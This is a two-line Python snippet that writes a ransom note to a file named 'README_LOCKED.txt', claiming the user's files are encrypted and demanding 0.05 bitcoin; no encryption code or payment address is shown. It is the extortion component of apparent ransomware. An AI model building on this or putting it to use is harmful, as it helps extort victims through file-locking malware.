note = "Your personal files have been encrypted! To decrypt them send 0.05 bitcoin to the address below."
open("README_LOCKED.txt", "w").write(note)
